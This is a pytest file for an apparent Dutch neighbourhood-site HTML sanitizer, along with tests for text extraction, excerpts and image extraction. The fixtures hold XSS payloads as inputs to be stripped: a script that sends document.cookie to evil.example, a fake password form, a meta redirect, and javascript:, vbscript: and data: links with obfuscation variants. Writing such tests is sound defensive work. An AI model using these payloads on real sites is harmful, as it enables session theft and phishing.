"""HTML from a wijk's own website (`content/veilig.py`), as residents get it on our site: text,
structure and links kept; code, frames, forms, event handlers and images gone; links absolute."""

from __future__ import annotations

import pytest

from bovenwijks.content.veilig import beelden, samenvatting, schoon, tekst

POST = "https://kruiskamp.example/2026/11/snoeiochtend/"
REL = 'rel="nofollow noopener noreferrer"'

SCHOON = [
    # (id, the source's HTML, what residents get)
    (
        "script-with-its-code",
        '<p>Welkom bij de buurtvereniging.</p><script>fetch("https://evil.example/?c=" + document.cookie)</script>',
        "<p>Welkom bij de buurtvereniging.</p>",
    ),
    (
        "style-with-its-rules",
        "<style>body { display: none }</style><p>De koffie staat klaar.</p>",
        "<p>De koffie staat klaar.</p>",
    ),
    (
        "iframe",
        '<p>Bekijk de video:</p><iframe src="https://www.youtube.com/embed/abc123" width="560">Je browser toont geen frames</iframe>',
        "<p>Bekijk de video:</p>",
    ),
    (
        "form",
        '<form action="https://evil.example/login"><label>Wachtwoord</label><input type="password"><button>Stuur</button></form><p>Tot zaterdag!</p>',
        "<p>Tot zaterdag!</p>",
    ),
    (
        "object-and-embed",
        '<object data="https://kruiskamp.example/film.swf"><embed src="https://kruiskamp.example/film.swf"></object><p>De film van de braderie.</p>',
        "<p>De film van de braderie.</p>",
    ),
    (
        "svg-with-a-script-inside",
        '<svg onload="alert(1)"><script>alert(2)</script><text>Logo</text></svg><p>Het bestuur</p>',
        "<p>Het bestuur</p>",
    ),
    (
        "noscript-tracker",
        '<noscript><img src="https://www.facebook.com/tr?id=1&amp;ev=PageView" width="1" height="1"></noscript><p>Nieuws</p>',
        "<p>Nieuws</p>",
    ),
    (
        "meta-refresh-and-base",
        '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/"><p>Hallo</p>',
        "<p>Hallo</p>",
    ),
    (
        "event-handlers-style-class-id",
        '<p onclick="alert(1)" style="color:red" class="intro" id="boven">Hallo <strong onmouseover="alert(2)">buren</strong></p>',
        "<p>Hallo <strong>buren</strong></p>",
    ),
    (
        "javascript-link-keeps-its-text",
        '<p><a href="javascript:alert(document.cookie)">Meld je aan</a></p>',
        f"<p><a {REL}>Meld je aan</a></p>",
    ),
    ("javascript-in-capitals", '<a href="JaVaScRiPt:alert(1)">Meld je aan</a>', f"<a {REL}>Meld je aan</a>"),
    ("javascript-with-a-tab", '<a href="java&#09;script:alert(1)">Meld je aan</a>', f"<a {REL}>Meld je aan</a>"),
    ("javascript-after-spaces", '<a href="  javascript:alert(1)">Meld je aan</a>', f"<a {REL}>Meld je aan</a>"),
    ("data-link", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Programma</a>', f"<a {REL}>Programma</a>"),
    ("vbscript-link", '<a href="vbscript:msgbox(1)">Programma</a>', f"<a {REL}>Programma</a>"),
    (
        "relative-links-made-absolute",
        '<p>Zie <a href="/agenda/">de agenda</a> en <a href="../fotos/">de foto\'s</a>.</p>',
        f'<p>Zie <a href="https://kruiskamp.example/agenda/" {REL}>de agenda</a> en <a href="https://kruiskamp.example/2026/11/fotos/" {REL}>de foto\'s</a>.</p>',
    ),
    (
        "mailto-and-tel-kept",
        '<p>Mail <a href="mailto:bestuur@kruiskamp.example">het bestuur</a> of bel <a href="tel:+31331234567">033 123 45 67</a>.</p>',
        f'<p>Mail <a href="mailto:bestuur@kruiskamp.example" {REL}>het bestuur</a> of bel <a href="tel:+31331234567" {REL}>033 123 45 67</a>.</p>',
    ),
    (
        "rel-and-target-replaced",
        '<a href="https://www.amersfoort.nl/" rel="author" target="_blank" title="De gemeente">Gemeente</a>',
        f'<a href="https://www.amersfoort.nl/" title="De gemeente" {REL}>Gemeente</a>',
    ),
    (
        "img-removed",
        '<p><img src="https://kruiskamp.example/wp-content/uploads/park.jpg" alt="Het park" width="800" height="600">Het park in de herfst.</p>',
        "<p>Het park in de herfst.</p>",
    ),
    (
        "nothing-left-where-a-linked-photo-was",
        '<p><a href="https://kruiskamp.example/park.jpg"><img src="https://kruiskamp.example/park-300x200.jpg"></a></p><p>&nbsp;</p><p><br></p><ul><li><img src="a.jpg"></li></ul><p>Het park.</p>',
        "<p>Het park.</p>",
    ),
    ("empty-link-points-nowhere", '<a href="">Lees meer</a> <a href=" ">hier</a>', f"<a {REL}>Lees meer</a> <a {REL}>hier</a>"),
    ("h1-becomes-text", "<h1>Snoeiochtend</h1><h2>Wat we doen</h2><p>Snoeien.</p>", "Snoeiochtend<h2>Wat we doen</h2><p>Snoeien.</p>"),
    (
        "wordpress-blocks",
        '<!-- wp:paragraph -->\n<p>Eerste alinea.</p>\n<!-- /wp:paragraph -->\n\n<!-- wp:group -->\n<div class="wp-block-group"><div class="wp-block-group__inner">Blok een</div><div>Blok twee</div></div>\n<!-- /wp:group -->',
        "<p>Eerste alinea.</p>\n<div><div>Blok een</div><div>Blok twee</div></div>",
    ),
    (
        "blank-lines-between-blocks",
        "<p>Eerste alinea.</p>\n\n\n<p>Tweede alinea.</p>\n  \n\t\n<ul>\n\n<li>een</li>\n\n<li>twee</li>\n</ul>",
        "<p>Eerste alinea.</p>\n<p>Tweede alinea.</p>\n<ul>\n<li>een</li>\n<li>twee</li>\n</ul>",
    ),
    (
        "blank-line-in-pre-kept-as-a-character",
        "<pre>regel een\n\nregel drie\n   \nregel vijf</pre>",
        "<pre>regel een\n&#10;regel drie\n   &#10;regel vijf</pre>",
    ),
    ("table", '<table class="x"><tr><th colspan="2" style="x">Tijd</th></tr><tr><td>10:00</td></tr></table>', '<table><tbody><tr><th colspan="2">Tijd</th></tr><tr><td>10:00</td></tr></tbody></table>'),
]  # fmt: skip


@pytest.mark.parametrize("html, expected", [row[1:] for row in SCHOON], ids=[row[0] for row in SCHOON])
def test_residents_get_the_text_and_links_and_nothing_that_runs(html, expected):
    assert schoon(html, POST) == expected


@pytest.mark.parametrize("basis", ["", "feed.xml", "mailto:bestuur@kruiskamp.example", "https://[kapot"])
def test_a_relative_link_without_a_usable_address_to_start_from_is_left_out(basis):
    assert schoon('<a href="/agenda/">de agenda</a> <a href="https://kruiskamp.example/">thuis</a>', basis) == (
        f'<a {REL}>de agenda</a> <a href="https://kruiskamp.example/" {REL}>thuis</a>'
    )


@pytest.mark.parametrize("html", [row[1] for row in SCHOON], ids=[row[0] for row in SCHOON])
def test_the_result_has_no_blank_line_that_would_end_its_html_block_in_markdown(html):
    stretched = html.replace(">", ">\n \n\x0b\n")
    for line in schoon(stretched, POST).split("\n"):
        assert line.strip(), repr(schoon(stretched, POST))


TEKST = [
    # (id, HTML, its plain text)
    ("entities-decoded", "<p>Tom &amp; Jerry zeggen &lt;hallo&gt;&nbsp;tegen&#8230; iedereen</p>", "Tom & Jerry zeggen <hallo> tegen… iedereen"),
    ("blocks-a-space-apart", "<p>Eerste alinea.</p><p>Tweede.</p><ul><li>een</li><li>twee</li></ul>regel<br>erna", "Eerste alinea. Tweede. een twee regel erna"),
    ("inline-tags-keep-words-whole", "<p>Het <strong>Kruis</strong>kamppark en <a href='/x'>de <em>speel</em>tuin</a></p>", "Het Kruiskamppark en de speeltuin"),
    ("whitespace-collapsed", "  <p>\n  Veel\n\n   ruimte\t hier  </p>  ", "Veel ruimte hier"),
    ("code-gone", "<p>Zichtbaar</p><script>verborgen()</script><style>p{}</style>", "Zichtbaar"),
    ("plain-text-stays", "Gewoon tekst, 3 < 4", "Gewoon tekst, 3 < 4"),
    ("empty", "", ""),
]  # fmt: skip


@pytest.mark.parametrize("html, expected", [row[1:] for row in TEKST], ids=[row[0] for row in TEKST])
def test_plain_text(html, expected):
    assert tekst(html) == expected


SAMENVATTING = [
    # (id, text, tekens, the excerpt)
    ("short-unchanged", "Zaterdag snoeien we in het park.", 300, "Zaterdag snoeien we in het park."),
    ("exactly-the-limit", "Zaterdag snoeien we.", 20, "Zaterdag snoeien we."),
    ("cut-at-a-word", "Zaterdag snoeien we de struiken in het Kruiskamppark.", 30, "Zaterdag snoeien we de …"),
    ("a-word-that-ends-at-the-cut-stays", "Zaterdag snoeien we de struiken in het park.", 33, "Zaterdag snoeien we de struiken …"),
    ("no-comma-before-the-dots", "Neem mee: handschoenen, snoeischaar, koffie en goede zin.", 37, "Neem mee: handschoenen, snoeischaar …"),
    ("a-word-that-ends-just-past-the-cut-goes", "Neem mee: handschoenen, snoeischaar, koffie en goede zin.", 36, "Neem mee: handschoenen …"),
    ("a-word-with-an-apostrophe-goes-whole", "Bekijk de foto's van de braderie", 16, "Bekijk de …"),
    ("a-typographic-apostrophe-too", "Bekijk de foto’s van de braderie", 16, "Bekijk de …"),
    ("one-long-word", "Kruiskampparkonderhoudsvrijwilligersochtend", 12, "Kruiskampp …"),
]  # fmt: skip


@pytest.mark.parametrize("text, tekens, expected", [row[1:] for row in SAMENVATTING], ids=[row[0] for row in SAMENVATTING])
def test_an_excerpt_is_cut_after_a_word(text, tekens, expected):
    assert samenvatting(text, tekens) == expected
    assert len(samenvatting(text, tekens)) <= tekens


def test_the_default_excerpt_is_300_characters():
    text = " ".join(["buurt"] * 100)
    assert len(samenvatting(text)) <= 300
    assert samenvatting(text).endswith("buurt …")
    assert len(samenvatting(text)) > 290


BEELDEN = [
    # (id, HTML, the images found)
    (
        "absolute-and-relative",
        '<p><img src="https://kruiskamp.example/wp-content/uploads/park.jpg" alt="Het park"></p><img src="../fotos/bank.jpg" alt="De nieuwe  bank">',
        [("https://kruiskamp.example/wp-content/uploads/park.jpg", "Het park"), ("https://kruiskamp.example/2026/11/fotos/bank.jpg", "De nieuwe bank")],
    ),
    (
        "tracking-pixels-left-out",
        '<img src="https://pixel.wp.com/b.gif?blog=1&amp;post=2" width="1" height="1"><img src="https://stats.example/p.gif" height="0"><img src="https://kruiskamp.example/foto.jpg" width="800" alt="">',
        [("https://kruiskamp.example/foto.jpg", "")],
    ),
    (
        "data-and-javascript-left-out",
        '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw="><img src="javascript:alert(1)"><img alt="zonder bron"><img src="https://kruiskamp.example/a.jpg" alt="Echt">',
        [("https://kruiskamp.example/a.jpg", "Echt")],
    ),
    (
        "alt-entities-decoded",
        '<img src="https://kruiskamp.example/a.jpg?w=800&amp;h=600" alt="Jan &amp; Piet &quot;aan het werk&quot;">',
        [("https://kruiskamp.example/a.jpg?w=800&h=600", 'Jan & Piet "aan het werk"')],
    ),
    ("none-in-scripts", "<script>var i = '<img src=\"https://evil.example/x.jpg\">'</script><noscript><img src=\"https://evil.example/y.jpg\"></noscript>", []),
]  # fmt: skip


@pytest.mark.parametrize("html, expected", [row[1:] for row in BEELDEN], ids=[row[0] for row in BEELDEN])
def test_the_images_to_download(html, expected):
    assert beelden(html, POST) == expected
